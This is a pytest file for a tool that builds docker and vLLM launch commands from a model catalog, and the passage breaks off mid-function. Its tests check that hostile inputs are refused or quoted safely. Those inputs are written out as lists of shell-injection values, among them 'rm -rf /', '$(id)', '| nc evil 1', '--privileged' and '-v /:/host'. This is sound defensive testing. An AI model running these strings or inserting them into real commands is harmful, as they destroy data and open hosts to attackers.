"""The model catalog (models.yaml + MODELS_YAML + MODELS_OVERRIDES) and the launch commands built from it.

The golden commands below are written out by hand: they are what spark-control runs on a real
Spark, so a change to them is a product change and should be reviewed as one.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import textwrap
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings as hyp_settings, strategies as st

from app.errors import ConfigError, InvalidInput, NotFound
from app.models import (DEFAULT_IMAGE, BUNDLED_MODELS_YAML, LaunchOverrides, ModelEntry, Placement,
                        build_launch_command, list_containers_command, load_catalog, parse_container_list,
                        resolve_placement, stop_command)
from app.settings import NodeConfig, Settings

USABLE_GB_PER_NODE = 121  # GB10: about 121 GB of the 128 GB unified memory is usable

SPARK1 = NodeConfig(name="spark1", host="192.168.1.101", user="nvidia", fabric_ip="192.168.100.10")
SPARK2 = NodeConfig(name="spark2", host="192.168.1.102", user="nvidia", fabric_ip="192.168.100.11")

GOLDEN_GPT_OSS_20B_ON_SPARK2 = (
    "docker run -d --name spark-control-gpt-oss-20b"
    " --label spark-control.model=gpt-oss-20b --label spark-control.role=single"
    " --label spark-control.placement=spark2 --label spark-control.port=8000"
    " --label spark-control.served-name=gpt-oss-20b"
    " --gpus all --ipc=host --network host --shm-size 16g --ulimit memlock=-1 --ulimit stack=67108864"
    ' -v "$HOME"/.cache/huggingface:/root/.cache/huggingface -e HF_TOKEN'
    " nvcr.io/nvidia/vllm:25.10-py3"
    " vllm serve openai/gpt-oss-20b --host 0.0.0.0 --port 8000 --served-model-name gpt-oss-20b"
    " --gpu-memory-utilization 0.35 --max-model-len 131072 --enable-prefix-caching"
    " --tool-call-parser openai --enable-auto-tool-choice"
    " --tensor-parallel-size 1 --pipeline-parallel-size 1"
)

_QWEN235B_FABRIC_ENV = (
    " -e NCCL_SOCKET_IFNAME=enp1s0f1np1 -e GLOO_SOCKET_IFNAME=enp1s0f1np1 -e TP_SOCKET_IFNAME=enp1s0f1np1"
    " -e UCX_NET_DEVICES=enp1s0f1np1 -e OMPI_MCA_btl_tcp_if_include=enp1s0f1np1"
    " -e NCCL_IB_DISABLE=0 -e NCCL_IB_HCA=rocep1s0f1,roceP2p1s0f1 -e RAY_memory_monitor_refresh_ms=0"
)
_QWEN235B_SERVE = (
    " nvcr.io/nvidia/vllm:26.01-py3"
    " vllm serve Qwen/Qwen3-235B-A22B-GPTQ-Int4 --host 0.0.0.0 --port 8000 --served-model-name qwen3-235b-a22b"
    " --gpu-memory-utilization 0.85 --max-model-len 32768 --kv-cache-dtype fp8 --quantization gptq_marlin"
    " --enable-prefix-caching --tool-call-parser hermes --enable-auto-tool-choice --reasoning-parser qwen3"
    " --tensor-parallel-size 2 --pipeline-parallel-size 1"
    " --nnodes 2 --node-rank {rank} --master-addr 192.168.100.10 --master-port 29501"
    " --distributed-executor-backend mp"
)
GOLDEN_QWEN3_235B_HEAD_ON_SPARK1 = (
    "docker run -d --name spark-control-qwen3-235b-a22b"
    " --label spark-control.model=qwen3-235b-a22b --label spark-control.role=head"
    " --label spark-control.placement=spark1+spark2 --label spark-control.port=8000"
    " --label spark-control.served-name=qwen3-235b-a22b"
    " --gpus all --ipc=host --network host --shm-size 16g --ulimit memlock=-1 --ulimit stack=67108864"
    ' -v "$HOME"/.cache/huggingface:/root/.cache/huggingface -e HF_TOKEN'
    " -e VLLM_HOST_IP=192.168.100.10" + _QWEN235B_FABRIC_ENV + _QWEN235B_SERVE.format(rank=0)
)
GOLDEN_QWEN3_235B_WORKER_ON_SPARK2 = (
    "docker run -d --name spark-control-qwen3-235b-a22b-worker"
    " --label spark-control.model=qwen3-235b-a22b --label spark-control.role=worker"
    " --label spark-control.placement=spark1+spark2 --label spark-control.port=8000"
    " --label spark-control.served-name=qwen3-235b-a22b"
    " --gpus all --ipc=host --network host --shm-size 16g --ulimit memlock=-1 --ulimit stack=67108864"
    ' -v "$HOME"/.cache/huggingface:/root/.cache/huggingface -e HF_TOKEN'
    " -e VLLM_HOST_IP=192.168.100.11" + _QWEN235B_FABRIC_ENV + _QWEN235B_SERVE.format(rank=1) + " --headless"
)


def _settings(models_yaml: Path | None = None, models_overrides: Path | None = None) -> SimpleNamespace:
    return SimpleNamespace(models_yaml=models_yaml, models_overrides=models_overrides)


@pytest.fixture(scope="module")
def catalog():
    return load_catalog(Settings.from_env(environ={}))


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text))
    return path


def _all_placements(entry: ModelEntry) -> list[Placement]:
    nodes = [SPARK1, SPARK2]
    return [Placement(tuple(nodes[:n])) for n in range(entry.nodes.min, min(entry.nodes.max, 2) + 1)]


def _assert_round_trip(plan) -> None:
    for command in plan.commands:
        assert shlex.split(command.command) == command.argv


# --- the bundled catalog ---------------------------------------------------------------------------

def test_bundled_catalog_loads_with_the_models_people_run(catalog):
    assert len(catalog) >= 12
    repos = {entry.hf_repo for entry in catalog}
    assert {"openai/gpt-oss-120b", "openai/gpt-oss-20b", "nvidia/Llama-3.3-70B-Instruct-FP4",
            "openai/whisper-large-v3-turbo"} <= repos
    assert any(entry.nodes.min == 2 and entry.tensor_parallel == 2 for entry in catalog)
    assert any("Nemotron" in entry.hf_repo for entry in catalog)
    capabilities = {cap for entry in catalog for cap in entry.capabilities}
    assert {"chat", "embeddings", "audio", "vision"} <= capabilities
    assert catalog.sources == (f"bundled catalog {BUNDLED_MODELS_YAML}",)


def test_every_bundled_entry_fits_its_nodes_and_builds_a_round_tripping_command(catalog):
    for entry in catalog:
        per_node = entry.size_gb / entry.nodes.min
        budget = entry.vllm.gpu_memory_utilization * USABLE_GB_PER_NODE
        assert per_node < budget, f"{entry.name}: {per_node} GB of weights per node > {budget:.0f} GB budget"
        for placement in _all_placements(entry):
            plan = build_launch_command(entry, placement)
            _assert_round_trip(plan)
            assert plan.tensor_parallel * plan.pipeline_parallel == len(placement)


def test_entries_inherit_the_defaults_block(catalog):
    gemma = catalog.get("gemma-3-27b-it")
    assert gemma.image == DEFAULT_IMAGE == "nvcr.io/nvidia/vllm:25.09-py3"
    assert gemma.port == 8000 and gemma.vllm.enable_prefix_caching is True
    assert gemma.served_model_name == "gemma-3-27b-it"
    assert catalog.get("whisper-large-v3-turbo").vllm.enable_prefix_caching is None  # null: back to vLLM's default
    assert catalog.get("qwen3-embedding-4b").capabilities == ["embeddings"]


def test_entries_and_summary_for_the_api(catalog):
    assert [e.name for e in catalog.entries()] == catalog.names() == [e.name for e in catalog]
    summary = catalog.get("qwen3-235b").summary()
    assert json.loads(json.dumps(summary)) == summary
    assert summary["nodes"] == {"min": 2, "max": 2} and summary["vllm"]["quantization"] == "gptq_marlin"
    assert summary["served_model_name"] == "qwen3-235b-a22b" and summary["aliases"] == ["qwen3-235b"]


def test_lookup_by_alias_served_name_and_case(catalog):
    assert catalog.get("whisper-1").name == "whisper-large-v3-turbo"
    assert catalog.get("GPT-OSS").name == "gpt-oss-120b"
    assert catalog.resolve_alias("qwen3-235b") == "qwen3-235b-a22b"
    assert "gpt-oss-20b" in catalog and "nope" not in catalog


def test_unknown_model_lists_close_names(catalog):
    with pytest.raises(NotFound) as exc:
        catalog.get("gpt-oss-12b")
    assert "did you mean" in exc.value.message and "gpt-oss-120b" in exc.value.message
    assert exc.value.field == "model"


# --- MODELS_YAML and MODELS_OVERRIDES -------------------------------------------------------------

ONE_MODEL = """
    defaults:
      vllm: {gpu_memory_utilization: 0.5}
    models:
      tiny:
        hf_repo: Qwen/Qwen3-0.6B
        size_gb: 1.2
"""


def test_models_yaml_replaces_the_bundled_catalog(tmp_path):
    path = _write(tmp_path, "models.yaml", ONE_MODEL)
    catalog = load_catalog(Settings.from_env(environ={"MODELS_YAML": str(path)}))
    assert catalog.names() == ["tiny"]
    tiny = catalog.get("tiny")
    assert tiny.vllm.gpu_memory_utilization == 0.5 and tiny.image == DEFAULT_IMAGE and tiny.port == 8000


def test_overrides_deep_merge_into_an_existing_entry(tmp_path):
    over = _write(tmp_path, "o.yaml", """
        models:
          gpt-oss-120b:
            vllm: {max_model_len: 65536}
            aliases: [big]
    """)
    catalog = load_catalog(_settings(models_overrides=over))
    entry = catalog.get("big")
    assert entry.vllm.max_model_len == 65536
    assert entry.vllm.tool_call_parser == "openai" and entry.size_gb == 65  # untouched keys kept
    assert entry.aliases == ["big"]  # lists replace
    assert catalog.sources[-1] == f"MODELS_OVERRIDES {over}"


def test_overrides_add_replace_remove_and_change_defaults(tmp_path):
    over = _write(tmp_path, "o.yaml", """
        defaults:
          image: nvcr.io/nvidia/vllm:26.01-py3
        models:
          my-finetune:
            hf_repo: acme/llama-3.1-8b-support
            revision: v2
            size_gb: 16
            env: {VLLM_LOGGING_LEVEL: DEBUG}
          qwen3-4b:
            replace: true
            hf_repo: Qwen/Qwen3-4B
            size_gb: 8
          gemma-3-27b-it: null
          qwen3-30b-a3b:
            vllm: {kv_cache_dtype: null}
    """)
    catalog = load_catalog(_settings(models_overrides=over))
    added = catalog.get("my-finetune")
    assert added.image == "nvcr.io/nvidia/vllm:26.01-py3" and added.revision == "v2"
    assert added.vllm.gpu_memory_utilization == 0.80  # bundled defaults still apply
    replaced = catalog.get("qwen3-4b")
    assert replaced.hf_repo == "Qwen/Qwen3-4B" and replaced.aliases == [] and replaced.vllm.tool_call_parser is None
    assert "gemma-3-27b-it" not in catalog and "gemma3" not in catalog
    assert catalog.get("qwen3-30b-a3b").vllm.kv_cache_dtype is None
    assert catalog.get("gpt-oss-20b").image == "nvcr.io/nvidia/vllm:25.10-py3"  # its own image wins
    plan = build_launch_command(added, Placement((SPARK1,)))
    assert plan.vllm_argv()[:3] == ["acme/llama-3.1-8b-support", "--revision", "v2"]
    assert "VLLM_LOGGING_LEVEL=DEBUG" in plan.commands[0].argv


def test_empty_overrides_file_changes_nothing(tmp_path, catalog):
    over = _write(tmp_path, "o.yaml", "# nothing yet\n")
    assert load_catalog(_settings(models_overrides=over)).names() == catalog.names()


BAD_OVERRIDES = {
    "out of range": ("models: {gpt-oss-120b: {vllm: {gpu_memory_utilization: 1.2}}}",
                     "model 'gpt-oss-120b', field vllm.gpu_memory_utilization: "
                     "Input should be less than or equal to 0.95"),
    "unknown key": ("models: {gpt-oss-120b: {vllm: {gpu_memory_utilisation: 0.5}}}",
                    "model 'gpt-oss-120b', field vllm.gpu_memory_utilisation: unknown key 'gpu_memory_utilisation' "
                    "(did you mean 'gpu_memory_utilization'?)"),
    "unknown entry key": ("models: {gpt-oss-20b: {hf-repo: a/b}}",
                          "model 'gpt-oss-20b', field hf-repo: unknown key 'hf-repo' (did you mean 'hf_repo'?)"),
    "wrong type": ("models: {gpt-oss-20b: {vllm: {max_model_len: lots}}}",
                   "model 'gpt-oss-20b', field vllm.max_model_len: Input should be a valid integer"),
    "quoted number": ("models: {gpt-oss-20b: {port: '8000'}}", "model 'gpt-oss-20b', field port:"),
    "hostile hf_repo": ("models: {gpt-oss-20b: {hf_repo: 'a/b;rm -rf'}}",
                        "model 'gpt-oss-20b', field hf_repo: Invalid hf_repo 'a/b;rm -rf': character ';'"),
    "hostile image": ("models: {gpt-oss-20b: {image: 'nvcr.io/nvidia/vllm:25.09-py3 --privileged'}}",
                      "model 'gpt-oss-20b', field image: Invalid image"),
    "hostile env name": ("models: {gpt-oss-20b: {env: {'A;B': x}}}", "model 'gpt-oss-20b', field env:"),
    "secret in env": ("models: {gpt-oss-20b: {env: {HF_TOKEN: hf_abc}}}",
                      "model 'gpt-oss-20b', field env: env.HF_TOKEN: secrets are never put in a command"),
    "fabric env": ("models: {gpt-oss-20b: {env: {NCCL_IB_HCA: mlx5_0}}}", "field env: env.NCCL_IB_HCA: set by"),
    "managed flag": ("models: {gpt-oss-20b: {vllm: {extra_args: [--port, '9000']}}}",
                     "field vllm.extra_args: extra_args[0] '--port': --port is written by spark-control from port"),
    "short flag": ("models: {gpt-oss-20b: {vllm: {extra_args: [-tp, '2']}}}",
                   "field vllm.extra_args: Invalid extra_args[0] '-tp'"),
    "underscore flag": ("models: {gpt-oss-20b: {vllm: {extra_args: [--max_num_seqs, '8']}}}",
                        "field vllm.extra_args: Invalid extra_args[0] '--max_num_seqs': character '_'"),
    "bad capability": ("models: {gpt-oss-20b: {capabilities: [chat, telepathy]}}",
                       "field capabilities[1]: Input should be 'chat', 'completions'"),
    "bad kv dtype": ("models: {gpt-oss-20b: {vllm: {kv_cache_dtype: fp16}}}", "field vllm.kv_cache_dtype:"),
    "bad parser name": ("models: {gpt-oss-20b: {vllm: {tool_call_parser: 'hermes; id'}}}",
                        "field vllm.tool_call_parser: 'hermes; id' is not a vLLM tool_call_parser name"),
    "nodes reversed": ("models: {gpt-oss-20b: {nodes: {min: 2, max: 1}}}",
                       "field nodes: nodes.max 1 is less than nodes.min 2"),
    "tp vs nodes": ("models: {gpt-oss-120b: {tensor_parallel: 2}}",
                    "model 'gpt-oss-120b', field tensor_parallel: 2 x pipeline_parallel 1 = 2 GPUs, "
                    "but nodes allows 1-2"),
    "missing field": ("models: {newbie: {size_gb: 3}}", "model 'newbie', field hf_repo: Field required"),
    "name mismatch": ("models: {newbie: {name: other, hf_repo: a/b, size_gb: 1}}",
                      "model 'newbie', field name: 'other' differs from the catalog key"),
    "bad catalog name": ("models: {'New Model': {hf_repo: a/b, size_gb: 1}}", "model 'New Model', field name:"),
    "alias clash": ("models: {qwen3-4b: {aliases: [gpt-oss]}}",
                    "model 'qwen3-4b', field aliases[0]: 'gpt-oss' is already a name, served name or alias "
                    "of model 'gpt-oss-120b'"),
    "alias is another name": ("models: {qwen3-4b: {aliases: [gpt-oss-20b]}}",
                              "model 'qwen3-4b', field aliases[0]: 'gpt-oss-20b' is already"),
    "served name clash": ("models: {qwen3-4b: {served_model_name: whisper-1}}",
                          "model 'qwen3-4b', field served_model_name: 'whisper-1' is already"),
    "own name as alias": ("models: {qwen3-4b: {aliases: [qwen3-4b]}}", "model 'qwen3-4b', field aliases: 'qwen3-4b' is the model's own name"),
    "bad defaults": ("defaults: {vllm: {gpu_memory_utilization: 2}}",
                     ": field defaults.vllm.gpu_memory_utilization: Input should be less than or equal to 0.95"),
    "defaults typo": ("defaults: {imagee: x}", "field defaults.imagee: unknown key 'imagee' (did you mean 'image'?)"),
    "bad replace": ("models: {qwen3-4b: {replace: yes please}}", "model 'qwen3-4b', field replace:"),
    "entry not a mapping": ("models: {gpt-oss-20b: 5}", "model 'gpt-oss-20b': the entry must be a mapping"),
    "models not a mapping": ("models: [gpt-oss-20b]", "field models: must be a mapping"),
    "non-mapping file": ("- gpt-oss-20b\n- qwen3-4b\n", "the top level must be a mapping"),
    "unknown top level": ("model: {}", "unknown top-level key 'model' (did you mean 'models'?)"),
    "yaml syntax": ("models:\n  gpt-oss-20b:\n    vllm: {max_model_len: 1\n  x: [\n", "YAML syntax error at line"),
    "duplicate key": ("models:\n  qwen3-4b: {size_gb: 9}\n  qwen3-4b: {size_gb: 10}\n",
                      "YAML syntax error at line 3, column 3: duplicate key 'qwen3-4b'"),
}


@pytest.mark.parametrize("text, expected", BAD_OVERRIDES.values(), ids=BAD_OVERRIDES.keys())
def test_bad_overrides_name_file_model_and_field(tmp_path, text, expected):
    over = _write(tmp_path, "o.yaml", text)
    with pytest.raises(ConfigError) as exc:
        load_catalog(_settings(models_overrides=over))
    message = exc.value.message
    assert message.startswith(f"MODELS_OVERRIDES {over}"), message
    assert expected in message, message


def test_the_example_message_from_the_docs(tmp_path):
    over = _write(tmp_path, "o.yaml", "models: {gpt-oss-120b: {vllm: {gpu_memory_utilization: 1.2}}}")
    with pytest.raises(ConfigError) as exc:
        load_catalog(_settings(models_overrides=over))
    assert exc.value.message == (f"MODELS_OVERRIDES {over}: model 'gpt-oss-120b', field vllm.gpu_memory_utilization: "
                                 "Input should be less than or equal to 0.95 (got 1.2)")
    assert exc.value.field == "vllm.gpu_memory_utilization"


BAD_MODELS_YAML = {
    "empty": ("", "the file is empty"),
    "comments only": ("# todo\n", "the file is empty"),
    "no models": ("defaults: {port: 8000}\n", "no models"),
    "yaml syntax": ("models:\n  a: {hf_repo: a/b\n", "YAML syntax error at line 3"),
    "tab indentation": ("models:\n\ta: {}\n", "YAML syntax error at line 2"),
    "scalar file": ("just text\n", "the top level must be a mapping with `defaults:` and `models:`, got text"),
    "hostile repo": ("models: {tiny: {hf_repo: 'a/b;rm -rf', size_gb: 1}}",
                     "model 'tiny', field hf_repo: Invalid hf_repo"),
    "negative size": ("models: {tiny: {hf_repo: a/b, size_gb: -1}}",
                      "model 'tiny', field size_gb: Input should be greater than 0 (got -1)"),
    "null entry": ("models: {tiny: null}", "model 'tiny': the entry must be a mapping of settings, got nothing"),
    "alias clash": ("models:\n  a: {hf_repo: x/a, size_gb: 1, aliases: [shared]}\n"
                    "  b: {hf_repo: x/b, size_gb: 1, aliases: [SHARED]}\n",
                    "model 'b', field aliases[0]: 'SHARED' is already a name, served name or alias of model 'a'"),
}


@pytest.mark.parametrize("text, expected", BAD_MODELS_YAML.values(), ids=BAD_MODELS_YAML.keys())
def test_bad_models_yaml_names_the_file(tmp_path, text, expected):
    path = _write(tmp_path, "models.yaml", text)
    with pytest.raises(ConfigError) as exc:
        load_catalog(_settings(models_yaml=path))
    assert exc.value.message.startswith(f"MODELS_YAML {path}: "), exc.value.message
    assert expected in exc.value.message, exc.value.message


def test_missing_files_are_named(tmp_path):
    with pytest.raises(ConfigError, match=r"^MODELS_YAML .*/nope\.yaml: file not found$"):
        load_catalog(_settings(models_yaml=tmp_path / "nope.yaml"))
    with pytest.raises(ConfigError, match=r"^MODELS_OVERRIDES .*/gone\.yaml: file not found$"):
        load_catalog(_settings(models_overrides=tmp_path / "gone.yaml"))


# --- golden commands -----------------------------------------------------------------------------

def test_golden_one_node_gpt_oss_20b_on_spark2(catalog):
    plan = build_launch_command(catalog.get("gpt-oss-20b"), Placement((SPARK2,)))
    [command] = plan.commands
    assert command.command == GOLDEN_GPT_OSS_20B_ON_SPARK2
    assert (command.node, command.role, command.container) == ("spark2", "single", "spark-control-gpt-oss-20b")
    assert plan.endpoint == "http://192.168.1.102:8000"  # the LAN address the app reaches, not the fabric
    assert (plan.model, plan.served_model_name, plan.port, plan.placement) == \
        ("gpt-oss-20b", "gpt-oss-20b", 8000, ("spark2",))
    assert plan.vllm_argv("spark2")[:3] == ["openai/gpt-oss-20b", "--host", "0.0.0.0"]
    _assert_round_trip(plan)
    # The cache mount is the one place the node's shell expands something: $HOME, on the node.
    assert shlex.split(command.command)[command.argv.index("-v") + 1] == \
        "$HOME/.cache/huggingface:/root/.cache/huggingface"


def test_golden_two_node_qwen3_235b_on_spark1_and_spark2(catalog):
    plan = build_launch_command(catalog.get("qwen3-235b-a22b"), Placement((SPARK1, SPARK2)))
    head, worker = plan.commands
    assert head.command == GOLDEN_QWEN3_235B_HEAD_ON_SPARK1
    assert worker.command == GOLDEN_QWEN3_235B_WORKER_ON_SPARK2
    assert [(c.node, c.role, c.container) for c in plan.commands] == [
        ("spark1", "head", "spark-control-qwen3-235b-a22b"),
        ("spark2", "worker", "spark-control-qwen3-235b-a22b-worker")]
    assert plan.endpoint == "http://192.168.1.101:8000"
    assert (plan.tensor_parallel, plan.pipeline_parallel) == (2, 1)
    assert plan.vllm_argv()[-2:] == ["--distributed-executor-backend", "mp"]
    assert plan.vllm_argv("spark2")[-1] == "--headless"
    _assert_round_trip(plan)


def test_two_node_env_follows_each_nodes_fabric_settings(catalog):
    a = NodeConfig(name="spark1", host="spark-a.lan", user="u", fabric_ip="10.0.0.1", fabric_iface="enp1s0f0np0",
                   rdma_devices="rocep1s0f0")
    b = NodeConfig(name="spark2", host="spark-b.lan", user="u", fabric_ip="10.0.0.2")
    plan = build_launch_command(catalog.get("gpt-oss-120b"), Placement((b, a)))  # spark2 is the head here
    head, worker = (c.argv for c in plan.commands)
    assert "VLLM_HOST_IP=10.0.0.2" in head and "VLLM_HOST_IP=10.0.0.1" in worker
    assert "NCCL_SOCKET_IFNAME=enp1s0f0np0" in worker and "NCCL_IB_HCA=rocep1s0f0" in worker
    assert "NCCL_SOCKET_IFNAME=enp1s0f1np1" in head
    for argv in (head, worker):
        assert argv[argv.index("--master-addr") + 1] == "10.0.0.2"
        assert "spark-control.placement=spark2+spark1" in argv
    assert plan.tensor_parallel == 2 and plan.endpoint == "http://spark-b.lan:8000"


def test_without_a_fabric_ip_the_lan_host_is_the_fabric_address(catalog):
    a = NodeConfig(name="spark1", host="10.1.1.1", user="u")
    b = NodeConfig(name="spark2", host="10.1.1.2", user="u")
    plan = build_launch_command(catalog.get("qwen3-235b"), Placement((a, b)))
    assert "VLLM_HOST_IP=10.1.1.2" in plan.commands[1].argv
    local = NodeConfig(name="spark1", host="local", user="u")
    with pytest.raises(InvalidInput, match="SPARK1_FABRIC_IP"):
        build_launch_command(catalog.get("qwen3-235b"), Placement((local, b)))


def test_placement_outside_the_node_range_is_refused_naming_both(catalog):
    with pytest.raises(InvalidInput) as exc:
        build_launch_command(catalog.get("qwen3-235b-a22b"), Placement((SPARK2,)))
    assert "'qwen3-235b-a22b' runs on 2 node(s) (nodes.min 2, nodes.max 2), but placement 'spark2' has 1" \
        in exc.value.message
    assert exc.value.field == "placement"
    with pytest.raises(InvalidInput, match=r"runs on 1 node\(s\).*placement 'spark1\+spark2' has 2"):
        build_launch_command(catalog.get("gpt-oss-20b"), Placement((SPARK1, SPARK2)))
    with pytest.raises(InvalidInput, match="names a node twice"):
        Placement((SPARK1, SPARK1))
    with pytest.raises(InvalidInput, match="at least one node"):
        Placement(())


def test_resolve_placement():
    nodes = [SPARK1, SPARK2]
    assert resolve_placement("spark2", nodes).names == ("spark2",)
    assert resolve_placement("both", nodes).label == "spark1+spark2"
    assert resolve_placement("spark2+spark1", nodes).head is SPARK2
    assert resolve_placement("spark1,spark2", nodes).names == ("spark1", "spark2")
    with pytest.raises(InvalidInput, match="unknown node 'spark3'.*configured: spark1, spark2"):
        resolve_placement("spark3", nodes)
    with pytest.raises(InvalidInput, match="needs two nodes"):
        resolve_placement("both", [SPARK1])


def test_endpoint_for_ipv6_and_local_heads(catalog):
    v6 = NodeConfig(name="spark1", host="fd00::1", user="u")
    assert build_launch_command(catalog.get("qwen3-4b"), [v6]).endpoint == "http://[fd00::1]:8000"
    local = NodeConfig(name="spark1", host="local", user="u")
    assert build_launch_command(catalog.get("qwen3-4b"), [local]).endpoint == "http://127.0.0.1:8000"


# --- overrides and hostile values ------------------------------------------------------------------

def test_overrides_reach_the_command(catalog):
    overrides = LaunchOverrides.parse({
        "gpu_memory_utilization": 0.5, "max_model_len": 8192, "port": 8010, "image": "nvcr.io/nvidia/vllm:26.01-py3",
        "extra_args": ["--max-num-seqs", "16"], "env": {"VLLM_LOGGING_LEVEL": "DEBUG"},
        "kv_cache_dtype": "fp8", "load_format": "fastsafetensors"})
    plan = build_launch_command(catalog.get("nemotron-nano-9b-v2"), Placement((SPARK1,)), overrides)
    argv = plan.commands[0].argv
    serve = plan.vllm_argv()
    assert plan.port == 8010 and plan.endpoint.endswith(":8010") and "spark-control.port=8010" in argv
    assert plan.image == "nvcr.io/nvidia/vllm:26.01-py3" and "nvcr.io/nvidia/vllm:26.01-py3" in argv
    for flag, value in [("--gpu-memory-utilization", "0.5"), ("--max-model-len", "8192"), ("--port", "8010"),
                        ("--kv-cache-dtype", "fp8"), ("--load-format", "fastsafetensors")]:
        assert serve[serve.index(flag) + 1] == value
    # Catalog extra args first, the user's after them (vLLM: the last occurrence wins).
    assert serve[-7:] == ["--trust-remote-code", "--mamba-ssm-cache-dtype", "float32", "--max-num-seqs", "64",
                          "--max-num-seqs", "16"]
    assert "--no-enable-prefix-caching" in serve
    assert "VLLM_LOGGING_LEVEL=DEBUG" in argv


HOSTILE_TEXT = ["; rm -rf /", "$(touch /tmp/pwned)", "`id`", "a b", "'", '"', "&& reboot", "| nc evil 1",
                "> /etc/passwd", "\\", "${IFS}", "*", "~root", "#comment", "x\ty", "ünïcødé；", "--flag=$(id)",
                '{"image": 4}', "-1"]


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_hostile_extra_arg_is_one_literal_argument(catalog, value):
    plan = build_launch_command(catalog.get("qwen3-4b"), Placement((SPARK1,)),
                                LaunchOverrides.parse({"extra_args": ["--chat-template-content-format", value]}))
    [command] = plan.commands
    assert shlex.split(command.command)[-2:] == ["--chat-template-content-format", value]
    _assert_round_trip(plan)


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_hostile_env_value_is_one_literal_argument(catalog, value):
    plan = build_launch_command(catalog.get("qwen3-4b"), Placement((SPARK1,)),
                                LaunchOverrides.parse({"env": {"SOME_SETTING": value}}))
    words = shlex.split(plan.commands[0].command)
    assert words[words.index(f"SOME_SETTING={value}") - 1] == "-e"
    _assert_round_trip(plan)


HOSTILE_OVERRIDES = {
    "gpu as hostile string": ({"gpu_memory_utilization": "0.8; rm -rf /"}, "gpu_memory_utilization"),
    "gpu as numeric string": ({"gpu_memory_utilization": "0.8"}, "gpu_memory_utilization"),
    "gpu too high": ({"gpu_memory_utilization": 0.99}, "gpu_memory_utilization"),
    "gpu zero": ({"gpu_memory_utilization": 0}, "gpu_memory_utilization"),
    "gpu bool": ({"gpu_memory_utilization": True}, "gpu_memory_utilization"),
    "max_model_len string": ({"max_model_len": "4096 --enforce-eager"}, "max_model_len"),
    "max_model_len float": ({"max_model_len": 4096.5}, "max_model_len"),
    "port hostile": ({"port": "8000; id"}, "port"),
    "port string": ({"port": "8000"}, "port"),
    "port range": ({"port": 70000}, "port"),
    "port bool": ({"port": True}, "port"),
    "image hostile": ({"image": "nvcr.io/nvidia/vllm:25.09-py3;id"}, "image"),
    "image option": ({"image": "--privileged"}, "image"),
    "image subshell": ({"image": "$(id)"}, "image"),
    "extra arg managed flag": ({"extra_args": ["--host", "127.0.0.1"]}, "extra_args"),
    "extra arg docker flag": ({"extra_args": ["-v", "/:/host"]}, "extra_args"),
    "extra arg short flags": ({"extra_args": ["-rf"]}, "extra_args"),
    "extra arg newline": ({"extra_args": ["a\nrm -rf /"]}, "extra_args"),
    "extra arg nul": ({"extra_args": ["a\x00b"]}, "extra_args"),
    "extra arg not text": ({"extra_args": [5]}, "extra_args[0]"),
    "extra args not a list": ({"extra_args": "--enforce-eager"}, "extra_args"),
    "env name hostile": ({"env": {"A;B": "x"}}, "env"),
    "env name subshell": ({"env": {"$(id)": "x"}}, "env"),
    "env name digit": ({"env": {"1A": "x"}}, "env"),
    "env name equals": ({"env": {"A=B": "x"}}, "env"),
    "env value newline": ({"env": {"A": "x\nid"}}, "env"),
    "env secret": ({"env": {"HF_TOKEN": "hf_x"}}, "env"),
    "env fabric": ({"env": {"VLLM_HOST_IP": "1.2.3.4"}}, "env"),
    "kv dtype hostile": ({"kv_cache_dtype": "fp8; id"}, "kv_cache_dtype"),
    "load format hostile": ({"load_format": "auto --trust-remote-code"}, "load_format"),
    "load format option": ({"load_format": "--x"}, "load_format"),
    "cannot change repo": ({"hf_repo": "evil/model"}, "hf_repo"),
    "not a mapping": (["--x"], "overrides"),
}


@pytest.mark.parametrize("data, field", HOSTILE_OVERRIDES.values(), ids=HOSTILE_OVERRIDES.keys())
def test_hostile_override_is_rejected_naming_the_field(data, field):
    with pytest.raises(InvalidInput) as exc:
        LaunchOverrides.parse(data)
    assert exc.value.field == field, exc.value.message
    assert exc.value.message.startswith(f"Invalid override {field}: "), exc.value.message


def test_hostile_model_names_never_reach_a_command(catalog):
    for name in ["gpt-oss-20b; rm -rf /", "$(id)", "../gpt-oss-20b", "gpt-oss-20b\n"]:
        with pytest.raises(NotFound):
            catalog.get(name)
    forged = catalog.get("qwen3-4b").model_copy(update={"name": "x; rm -rf /"})  # bypasses validation
    with pytest.raises(InvalidInput, match="model name"):
        build_launch_command(forged, Placement((SPARK1,)))


@hyp_settings(max_examples=300, deadline=None)
@given(value=st.text(max_size=40))
def test_any_text_is_refused_or_stays_one_argument(value):
    entry = _qwen3_4b()
    try:
        overrides = LaunchOverrides.parse({"extra_args": ["--chat-template", value], "env": {"X": value}})
    except InvalidInput:
        return
    plan = build_launch_command(entry, Placement((SPARK1,)), overrides)
    words = shlex.split(plan.commands[0].command)
    assert words == plan.commands[0].argv and words[-1] == value and f"X={value}" in words


_QWEN3_4B: list[ModelEntry] = []


def _qwen3_4b() -> ModelEntry:
    if not _QWEN3_4B:
        _QWEN3_4B.append(load_catalog(_settings()).get("qwen3-4b"))
    return _QWEN3_4B[0]


def test_hf_token_value_never_appears(monkeypatch, catalog):
    secret = "hf_SuperSecretTokenValue123"
    monkeypatch.setenv("HF_TOKEN", secret)
    monkeypatch.setenv("HUGGING_FACE_HUB_TOKEN", secret)
    for entry in catalog:
        for placement in _all_placements(entry):
            plan = build_launch_command(entry, placement)
            dumped = json.dumps(plan.to_dict()) + repr(plan)
            assert secret not in dumped
            for command in plan.commands:
                i = command.argv.index("HF_TOKEN")
                assert command.argv[i - 1] == "-e" and command.argv.count("HF_TOKEN") == 1
                assert not any(arg.startswith("HF_TOKEN=") for arg in command.argv)


def test_every_command_round_trips_with_and_without_overrides(catalog):
    overrides = LaunchOverrides.parse({"extra_args": ["--override-generation-config", '{"temperature": 0.6}'],
                                       "env": {"NCCL_DEBUG": "INFO"}, "port": 8100})
    count = 0
    for entry in catalog:
        for placement in _all_placements(entry):
            for plan in (build_launch_command(entry, placement), build_launch_command(entry, placement, overrides)):
                _assert_round_trip(plan)
                count += len(plan.commands)
    assert count >= 30


def _shell_active(command: str) -> str:
    """Characters outside single quotes that are not plain word characters: what a shell would act on."""
    active, quoted = [], False
    for char in command:
        if char == "'":
            quoted = not quoted
        elif not quoted and not re.fullmatch(r"[A-Za-z0-9 _@%+=:,./-]", char):
